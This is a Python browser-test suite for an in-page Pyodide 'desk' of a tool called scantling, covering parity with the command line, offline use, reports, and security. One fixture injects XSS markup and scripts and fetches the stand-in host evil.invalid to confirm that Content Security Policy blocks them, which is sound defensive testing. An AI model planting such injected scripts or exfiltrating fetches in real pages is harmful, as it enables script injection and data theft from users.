"""The desk that computes in the page itself: same numbers, no server, nothing leaves the origin."""

from __future__ import annotations

import base64
import json
import os
import re
import zlib
from dataclasses import replace
from html import unescape
from pathlib import Path

import numpy as np
import pytest
import scantling
import yaml
from pages import Page
from scantling.advise.comparison import flat
from scantling_logs.learning import read_log
from scantling_logs.point import of_design
from scantling_logs.site_calibration import calibration
from scantling_widgets.desk import link
from scantling_widgets.pages import site
from scantling_widgets.report import Report

from . import browsing

ROOT = Path(__file__).parents[2]
DESIGNS = sorted((ROOT / "gallery" / "designs").glob("*.yaml"))
DISTRIBUTION = os.environ.get("PYODIDE")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(not DISTRIBUTION, reason="no Pyodide distribution (PYODIDE=DIR)"),
]
_BELOW = "some/where"  # the folder stands below the root of its server
_LIMIT_BYTES = 14e6
_ASSESS = """
import json, numpy, scantling
def told(text):
    found = scantling.assess(scantling.Design.from_yaml(text)).as_dict(advice=False)
    return json.dumps(found, default=numpy.generic.item)
told
"""


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    root = tmp_path_factory.mktemp("site")
    site.desk(root / _BELOW / "desk", Path(DISTRIBUTION))
    with browsing.serving(root) as address:
        yield f"{address}/{_BELOW}/desk/", root


@pytest.fixture(scope="module")
def desk(served):
    with browsing.browser() as context:
        asked = []
        context.on("request", lambda request: asked.append(request.url))
        found = browsing.DeskPage(context.new_page())
        found.asked = asked
        visit(found, served[0])
        yield found


def visit(desk, url: str) -> None:
    """Open the page anew and wait until its own Python answers."""
    desk.page.goto("about:blank")
    desk.open(url)
    started = "() => document.documentElement.dataset.ready"
    desk.page.wait_for_function(started, timeout=2 * browsing.PATIENCE_MS)
    desk.settle()


KEPT = """async () => {
    for (const key of await caches.keys())
        for (const { url } of await (await caches.open(key)).keys())
            if (url.includes("/memory-")) return true;
    return false;
}"""


@pytest.fixture
def second(desk, served):
    """The page as a visitor finds it who was there before."""
    if not desk.page.workers[0].evaluate("() => self.restored"):
        desk.page.wait_for_function(KEPT, timeout=2 * browsing.PATIENCE_MS)
        visit(desk, served[0])
    assert desk.page.workers[0].evaluate("() => self.restored")
    return desk


def test_what_a_visitor_downloads(served):
    import gzip

    folder = served[1] / _BELOW / "desk"
    packed = {".zip", ".whl", ".z"}
    files = [p for p in folder.rglob("*") if p.is_file()]
    sizes = [
        p.stat().st_size if p.suffix in packed else len(gzip.compress(p.read_bytes()))
        for p in files
    ]
    assert sum(sizes) <= _LIMIT_BYTES


def test_a_control_is_followed_by_numbers_and_pictures(desk):
    before = desk.kpi("step_s")
    handle = desk.page.locator("input[type=range]").nth(2)
    handle.focus()
    desk.page.keyboard.press("ArrowLeft")
    desk.page.wait_for_function(
        "was => document.querySelector(\"[data-kpi='step_s'] .sd-kpi-value\").innerText"
        ".replace('\\n', ' ').trim() !== was",
        arg=before,
        timeout=browsing.PATIENCE_MS,
    )
    desk.settle()
    assert desk.page.locator(".sd-chart-fault").all_inner_texts().count("") >= 2
    assert desk.errors == []


@pytest.mark.parametrize("scheme", ["dark", "light"])
def test_the_labels_of_the_charts_stand_out_in_either_theme(desk, scheme):
    """WCAG 2.2, 1.4.3: 4.5 to 1 between a text and what it stands on."""
    desk.page.emulate_media(color_scheme=scheme)
    desk.page.wait_for_function(
        """() => {
        const light = colour => {
            const part = c => c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4;
            const [r, g, b] = colour.match(/[\\d.]+/g).map(n => part(n / 255));
            return 0.2126 * r + 0.7152 * g + 0.0722 * b;
        };
        const card = document.querySelector('.sd-card:has(.sd-chart)');
        const ground = light(getComputedStyle(card).backgroundColor);
        const texts = [...card.querySelectorAll('.role-axis-label text')];
        return texts.length > 3 && texts.every(text => {
            const ink = light(getComputedStyle(text).fill);
            return (Math.max(ink, ground) + 0.05) / (Math.min(ink, ground) + 0.05) >= 4.5;
        });
    }""",
        timeout=15_000,
    )


def test_the_example_stands_before_python_does_and_python_says_the_same(desk, served):
    """The page was written with what the desk says of its example: nothing of it may change when
    the desk itself speaks."""
    context = desk.page.context.browser.new_context(service_workers="block")
    page, held = context.new_page(), []
    page.route("**/pyodide.asm.wasm.z", lambda route: held.append(route))
    page.goto(served[0])
    figure = page.locator("[data-kpi='step_s'] .sd-kpi-value")
    figure.wait_for(timeout=browsing.PATIENCE_MS)
    page.wait_for_function(
        "() => document.querySelectorAll('.sd-chart[data-revision] svg').length >= 2",
        timeout=browsing.PATIENCE_MS,
    )
    assert page.get_by_role("status").filter(has_text="example").is_visible()
    first = page.locator(".sd-right").inner_text()
    assert page.evaluate("() => document.documentElement.dataset.ready") is None
    held[0].continue_()
    started = "() => document.documentElement.dataset.ready"
    page.wait_for_function(started, timeout=2 * browsing.PATIENCE_MS)
    page.wait_for_timeout(3000)
    assert page.locator(".sd-right").inner_text() == first
    context.close()


@pytest.mark.parametrize("visited", ["desk", "second"])
def test_the_gallery_is_that_of_the_command_line(request, visited):
    worker = request.getfixturevalue(visited).page.workers[0]
    worker.evaluate("code => { self.told = self.python.runPython(code); }", _ASSESS)
    for path in DESIGNS:
        text = path.read_text(encoding="utf-8")
        inside = flat(json.loads(worker.evaluate("text => self.told(text)", text)))
        own = scantling.assess(path).as_dict(advice=False)
        for key, value in flat(json.loads(json.dumps(own, default=np.generic.item))).items():
            if key == "search_seconds":
                continue
            if isinstance(value, float):
                assert inside[key] == pytest.approx(value, rel=1e-12), (path.stem, key)
            elif not isinstance(value, list):
                assert inside[key] == value, (path.stem, key)


def downloaded(desk, name: str) -> str:
    """The text of the file that the desk offers under a name that ends so."""
    link = desk.page.locator(f".sd-desk a[download$='{name}']")
    link.wait_for(timeout=4 * browsing.PATIENCE_MS)
    with desk.page.expect_download() as got:
        link.click()
    return Path(got.value.path()).read_text(encoding="utf-8")


def test_a_report_has_its_pictures_as_the_command_line_draws_them(desk):
    design = scantling.Design.from_yaml(desk.design_text())
    desk.page.get_by_role("button", name="Render the report", exact=True).click()
    found, own = Page(downloaded(desk, ".html")), Report(design).html()
    assert found.faults == [] and found.outside() == []
    drawn = [a for tag, a in found.attributes if tag == "svg"]
    words = re.findall(r'<svg [^>]*aria-label="([^"]*)"', own)
    assert [a["aria-label"] for a in drawn] == [unescape(said) for said in words] != []
    assert (
        all(a["role"] == "img" for a in drawn) and "font-family" not in found.html.split("<main")[1]
    )
    assert found.elements["path"] == pytest.approx(own.count("<path "), rel=0.1)


@pytest.mark.parametrize("how", ["chosen", "dropped"])
def test_a_log_is_learnt_from_and_stays_in_the_page(desk, how, tmp_path):
    """The calibration of a Megatron-LM log is the one that the library writes; no request is made
    meanwhile."""
    design = scantling.Design.from_yaml(desk.design_text())
    line = " iteration {:8d}/ 50 | elapsed time per iteration (ms): 6000.0 |"
    log = tmp_path / "job.out"
    log.write_text("\n".join(map(line.format, range(1, 30))), encoding="utf-8")
    reading = read_log(log)
    reading = replace(reading, devices=design.cluster.devices)  # which the log does not say
    made = calibration([of_design(reading, design)], [reading])
    before = len(desk.asked)
    if how == "chosen":
        desk.page.set_input_files("input[data-takes=log]", log)
    else:
        desk.page.evaluate(
            """text => {
            const held = new DataTransfer();
            held.items.add(new File([text], "job.out"));
            document.body.dispatchEvent(
                new DragEvent("drop", { dataTransfer: held, bubbles: true, cancelable: true }));
        }""",
            log.read_text(),
        )
    desk.settle()
    text = downloaded(desk, "calibration.yaml")
    assert yaml.safe_load(text) == made
    assert [url for url in desk.asked[before:] if not url.startswith(("data:", "blob:"))] == []


@pytest.mark.parametrize(
    "spoil, said",
    [
        (lambda text: text[:-12], "cut short"),
        (lambda text: text.replace("design=1.", "design=0."), "version 0"),
        (lambda text: text.replace("design=1.", "design=2."), "version 2"),
    ],
)
def test_what_is_left_of_a_bad_link_opens_by_one_press(desk, served, spoil, said):
    design = scantling.Design.read(ROOT / "gallery" / "designs" / "gpt-3-175b-64-a100.yaml")
    desk.page.goto("about:blank")
    desk.open(f"{served[0]}#{spoil(link.write(design))}")
    offer = desk.page.get_by_role("button", name="Open what is left")
    offer.wait_for(timeout=browsing.PATIENCE_MS)
    assert said in desk.page.locator(".sd-line").inner_text()
    offer.click()
    desk.page.wait_for_function(
        "title => document.querySelector('.sd-title').innerText.includes(title)",
        arg="GPT-3 175B",
        timeout=browsing.PATIENCE_MS,
    )


def test_a_link_nested_without_end_is_refused_and_the_desk_goes_on(desk, served):
    """The JSON reader of Pyodide would end in a RangeError of the engine."""
    packed = base64.urlsafe_b64encode(zlib.compress(b'{"a":' + b"[" * 200_000)).decode()
    desk.page.goto("about:blank")
    desk.open(f"{served[0]}#design=1.{packed.rstrip('=')}")
    desk.page.get_by_text("the link holds no design").first.wait_for(timeout=browsing.PATIENCE_MS)
    assert not desk.page.locator("#trouble").is_visible()
    assert desk.errors == []


_ATTACKS = """async () => {
    const refused = new Set();
    addEventListener("securitypolicyviolation", event => refused.add(event.effectiveDirective));
    window.taken = 0;
    const put = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
    put("script", { textContent: "window.taken = 1" });
    put("script", { src: "https://evil.invalid/x.js" });
    put("img", { src: "https://evil.invalid/x.png" });
    put("object", { data: "https://evil.invalid/x" });
    put("iframe", { src: "https://evil.invalid/" });
    put("base", { href: "https://evil.invalid/" });
    const box = document.createElement("div");
    box.innerHTML = "<i onclick='window.taken = 2'></i><style>i { color: red }</style>";
    document.body.append(box);
    box.firstChild.click();
    try { setTimeout("window.taken = 3", 0); } catch {}
    try { new Worker(URL.createObjectURL(new Blob(["1"]))); } catch {}
    await fetch("https://evil.invalid/?design").catch(() => {});
    await new Promise(done => setTimeout(done, 500));
    return [window.taken, [...refused].sort(), document.baseURI];
}"""


def test_what_gets_into_the_page_neither_runs_nor_calls_home(desk, served):
    """Markup in a design stays text; where a script got in all the same, the page's policy holds
    it: the directives of Content Security Policy Level 3 that each attempt violates."""
    marked = "<img src=x onerror='window.taken = 4'><script>window.taken = 5</script>"
    design = scantling.Design.read(ROOT / "gallery" / "designs" / "gpt-3-175b-64-a100.yaml")
    visit(desk, f"{served[0]}#{link.write(design.change({'name': marked}))}")
    desk.page.get_by_text("<img src=x onerror").first.wait_for()
    assert desk.page.locator("#desk img[src=x], #desk script").count() == 0
    asked = list(desk.asked)
    taken, refused, base = desk.page.evaluate(_ATTACKS)
    desk.asked[:] = asked  # what was tried counts as asked, though it was held back
    assert taken == 0
    assert refused == [
        "base-uri",
        "connect-src",
        "frame-src",
        "img-src",
        "object-src",
        "script-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-elem",
        "worker-src",
    ]
    assert base.startswith(served[0])
    assert not any("evil" in url for url in desk.page.context.refused)


def test_opened_as_a_file_it_says_how_to_serve(desk, served):
    page = desk.page.context.browser.new_page()
    page.goto((served[1] / _BELOW / "desk" / "index.html").as_uri())
    page.get_by_text("python3 -m http.server").wait_for(timeout=browsing.PATIENCE_MS)
    page.close()


def test_nothing_leaves_the_origin_and_nothing_is_needed_the_second_time(desk, served):
    origin = served[0].split("/some/")[0]
    assert {u for u in desk.asked if not u.startswith((origin, "data:", "blob:"))} == set()
    desk.page.context.set_offline(True)
    design = scantling.Design.read(ROOT / "gallery" / "designs" / "gpt-3-175b-64-a100.yaml")
    visit(desk, f"{served[0]}#{link.write(design)}")
    desk.page.wait_for_function(
        "title => document.querySelector('.sd-title').innerText.includes(title)",
        arg="GPT-3 175B",
        timeout=browsing.PATIENCE_MS,
    )
    desk.page.context.set_offline(False)
    assert desk.page.context.refused == []
